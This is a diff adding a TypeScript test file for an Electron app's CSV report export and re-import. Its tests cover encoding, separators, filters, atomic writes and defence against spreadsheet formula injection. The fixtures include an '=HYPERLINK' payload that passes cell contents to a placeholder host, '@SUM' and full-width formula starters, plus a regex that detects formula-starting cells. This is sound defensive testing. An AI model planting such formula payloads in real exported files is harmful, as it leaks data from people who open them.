@@ -1,0 +1,177 @@
+import { after, describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
+import { openDatabase, type Database } from '../../electron/core/db/database.ts';
+import { OutboxStore } from '../../electron/core/outbox-store.ts';
+import { ReportService } from '../../electron/core/report-service.ts';
+import { SettingsStore } from '../../electron/core/settings-store.ts';
+import { MetaStore } from '../../electron/core/meta-store.ts';
+import { EXPORT_COLUMNS, writeReportsCsv } from '../../electron/core/csv-export.ts';
+import { exportReportsToFile } from '../../electron/core/csv-export-file.ts';
+import { importReportsCsv } from '../../electron/core/csv-import.ts';
+import { AppError } from '../../shared/errors.ts';
+import type { ExportQuery } from '../../shared/export-query.ts';
+
+// The one CSV writer of the command line and the window, on real SQLite files, read back
+// with csv-parse as Excel or a script would, and imported again.
+
+const dir = mkdtempSync(join(tmpdir(), 'upr-export-'));
+const dbs: Database[] = [];
+after(() => {
+  for (const db of dbs) db.close();
+  rmSync(dir, { recursive: true, force: true });
+});
+
+const NOW = new Date(2025, 4, 20, 12, 0, 0);
+const now = () => NOW;
+const target = { baseUrl: 'https://rc.ropo24.fi/rest', cid: '123456' };
+let n = 0;
+
+/** A store signed in to `target`, with a ReportService making reports as the form does (random ids). */
+function newOutbox(): { store: OutboxStore; form: ReportService } {
+  const db = openDatabase(join(dir, `outbox-${++n}.sqlite`));
+  dbs.push(db);
+  const store = new OutboxStore(db);
+  const settings = new SettingsStore(new MetaStore(db));
+  settings.set({ endpoint: { kind: 'preset', country: 'fi', stage: 'test' }, cid: target.cid });
+  return { store, form: new ReportService({ store, settings, now: () => NOW.getTime() }) };
+}
+
+const HYPERLINK = '=HYPERLINK("http://x.invalid/?"&A1,"open")';
+/** What Excel would run as a formula: the OWASP list and the full-width forms csv-stringify knows. */
+const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+
+async function exported(store: OutboxStore, query: ExportQuery = {}, options: Parameters<typeof writeReportsCsv>[3] = {}): Promise<string> {
+  let text = '';
+  await writeReportsCsv(store, query, async (chunk) => {
+    text += chunk;
+  }, options);
+  return text;
+}
+const rowsOf = (text: string, delimiter = ';') =>
+  parse(text, { bom: true, columns: true, delimiter }) as Record<(typeof EXPORT_COLUMNS)[number], string>[];
+
+function tricky(form: ReportService): void {
+  form.create({ status: 'notdisconnected', usageplacecode: 'X-1', description: HYPERLINK, time: '2024-01-04 10:41:40' });
+  form.create({ status: 'notdisconnected', usageplacecode: '-2', customernumber: '+358401234567', description: '@SUM(A1:A9)', time: '2024-01-05 08:15:00' });
+  form.create({ status: 'notdisconnected', usageplacecode: 'X-3', description: "'=already quoted", contract_no: '\uFF1D1+1', time: '2024-01-06 09:00:00' });
+  form.create({
+    status: 'disconnected', usageplacecode: 'X-4', customernumber: 'A1', time: '2024-02-01 07:00:00',
+    invoices: [{ invoicenumber: '594294', jobid: '1234' }, { invoicenumber: '594295', jobid: '1235' }],
+    description: 'Line one\nline "two"; käytävässä 12 €',
+  });
+}
+
+describe('the CSV writer', () => {
+  test('UTF-8 with BOM, ";" and CRLF; every cell Excel would run as a formula starts with an apostrophe', async () => {
+    const { store, form } = newOutbox();
+    tricky(form);
+    const text = await exported(store);
+    assert.ok(text.startsWith('\uFEFFstatus;usageplacecode;customernumber;contract_no;invoices;time;description;id;state;'));
+    assert.ok(text.endsWith('\r\n'));
+    const rows = rowsOf(text);
+    assert.deepEqual(rows.map((r) => r.usageplacecode), ['X-1', "'-2", 'X-3', 'X-4'], 'oldest first');
+    assert.equal(rows[0]?.description, `'${HYPERLINK}`);
+    assert.match(text, /;"'=HYPERLINK\(""http:\/\/x\.invalid\/\?""&A1,""open""\)";/, 'quoted, the quotes doubled, the apostrophe inside');
+    assert.deepEqual([rows[1]?.customernumber, rows[1]?.description], ["'+358401234567", "'@SUM(A1:A9)"]);
+    assert.deepEqual([rows[2]?.description, rows[2]?.contract_no], ["''=already quoted", "'\uFF1D1+1"]);
+    assert.equal(rows[3]?.description, 'Line one\nline "two"; käytävässä 12 €');
+    assert.equal(rows[3]?.invoices, '594294:1234 594295:1235');
+    for (const row of rows) for (const cell of Object.values(row)) assert.doesNotMatch(cell, FORMULA_START, cell);
+  });
+
+  test('a line break alone inside a value is quoted too (the rows stay rows)', async () => {
+    const { store, form } = newOutbox();
+    form.create({ status: 'notdisconnected', usageplacecode: 'NL-1', description: 'first line\nsecond line', time: '2024-01-04 10:41:40' });
+    form.create({ status: 'connected', usageplacecode: 'NL-2', time: '2024-01-04 10:42:00' });
+    const text = await exported(store);
+    assert.ok(text.includes(';"first line\nsecond line";'));
+    assert.deepEqual(rowsOf(text).map((r) => [r.usageplacecode, r.description]), [['NL-1', 'first line\nsecond line'], ['NL-2', '']]);
+  });
+
+  test('--separator "," and tab; the page size does not change a byte', async () => {
+    const { store, form } = newOutbox();
+    tricky(form);
+    for (let i = 0; i < 7; i++) form.create({ status: 'connected', usageplacecode: `P-${i}`, time: '2024-03-01 10:00:00' });
+    const whole = await exported(store);
+    for (const pageSize of [1, 2, 3, 1000]) assert.equal(await exported(store, {}, { pageSize }), whole, `pages of ${pageSize}`);
+    assert.deepEqual(rowsOf(await exported(store, {}, { separator: ',' }), ','), rowsOf(whole));
+    assert.deepEqual(rowsOf(await exported(store, {}, { separator: '\t' }), '\t'), rowsOf(whole));
+  });
+
+  test('filters: state, first and last day of the report\'s time, search; a report made meanwhile is left out', async () => {
+    const { store, form } = newOutbox();
+    tricky(form);
+    const ids = store.list().map((e) => e.id).reverse();
+    store.markSent(ids[1]!, NOW.getTime(), 200);
+    const codes = async (q: ExportQuery, pageSize = 1) => rowsOf(await exported(store, q, { pageSize })).map((r) => r.usageplacecode);
+    assert.deepEqual(await codes({ state: 'sent' }), ["'-2"]);
+    assert.deepEqual(await codes({ state: 'queued' }), ['X-1', 'X-3', 'X-4']);
+    assert.deepEqual(await codes({ from: '2024-01-05', to: '2024-01-06' }), ["'-2", 'X-3']);
+    assert.deepEqual(await codes({ from: '2024-01-06' }), ['X-3', 'X-4']);
+    assert.deepEqual(await codes({ to: '2024-01-04' }), ['X-1']);
+    assert.deepEqual(await codes({ search: 'x-' }), ['X-1', 'X-3', 'X-4']);
+    assert.deepEqual(await codes({ search: '594295', state: 'queued' }), ['X-4']);
+    assert.deepEqual(await codes({ search: 'X-', state: 'sent' }), []);
+
+    let made = false;
+    const text = await writeReportsCsv(store, {}, async () => {
+      if (!made) form.create({ status: 'connected', usageplacecode: 'DURING', time: '2024-03-01 10:00:00' });
+      made = true;
+    }, { pageSize: 1 });
+    assert.equal(text.count, 4, 'the log as it was when the export began');
+  });
+
+  test('an exported log imports again: nothing already there is queued, an edited row is', async () => {
+    const { store, form } = newOutbox();
+    tricky(form);
+    const file = join(dir, 'log.csv');
+    writeFileSync(join(dir, 'rows.csv'), 'status;usageplacecode;time\nconnected;IMP-1;\ndisconnected;IMP-2;2024-01-04 10:41\n');
+    await importReportsCsv(join(dir, 'rows.csv'), { store, target, now });
+    assert.deepEqual(await exportReportsToFile(store, {}, file), { count: 6 });
+
+    const again = await importReportsCsv(file, { store, target, now });
+    assert.deepEqual([again.queued.length, again.skipped.length], [0, 6]);
+    assert.deepEqual(again.warnings.map((w) => w.code), ['ignored_columns']);
+
+    // Excel's user changes one row, and keeps its id cell.
+    const edited = readFileSync(file, 'utf8').replace('Line one', 'Line 1');
+    writeFileSync(file, edited);
+    const changed = await importReportsCsv(file, { store, target, now });
+    assert.deepEqual(changed.queued.map((e) => [e.usageplacecode, e.event.description]), [['X-4', 'Line 1\nline "two"; käytävässä 12 €']]);
+    assert.equal(changed.skipped.length, 5);
+
+    // In a fresh outbox every row is queued, each as it was.
+    const fresh = newOutbox().store;
+    const restored = await importReportsCsv(file, { store: fresh, target, now });
+    assert.deepEqual(
+      restored.queued.map((e) => [e.usageplacecode, e.event.customernumber ?? null, e.event.contract_no ?? null, e.event.description ?? null]),
+      [
+        ['X-1', null, null, HYPERLINK],
+        ['-2', '+358401234567', null, '@SUM(A1:A9)'],
+        ['X-3', null, '\uFF1D1+1', "'=already quoted"],
+        ['X-4', 'A1', null, 'Line 1\nline "two"; käytävässä 12 €'],
+        ['IMP-1', null, null, null],
+        ['IMP-2', null, null, null],
+      ],
+    );
+  });
+
+  test('a file that cannot be written: file_unwritable, and no half-written file', async () => {
+    const { store, form } = newOutbox();
+    tricky(form);
+    const missing = join(dir, 'no-such-folder', 'log.csv');
+    await assert.rejects(exportReportsToFile(store, {}, missing), (e: unknown) => e instanceof AppError && e.code === 'file_unwritable');
+    const folder = mkdtempSync(join(dir, 'out-'));
+    const target = join(folder, 'log.csv');
+    writeFileSync(target, 'an older export');
+    const reading = new OutboxStore(dbs.at(-1)!);
+    await exportReportsToFile(reading, {}, target);
+    assert.deepEqual(readdirSync(folder), ['log.csv'], 'the .part file became the file');
+    assert.ok(readFileSync(target, 'utf8').includes('X-4'));
+    assert.ok(!existsSync(`${target}.part`));
+  });
+});
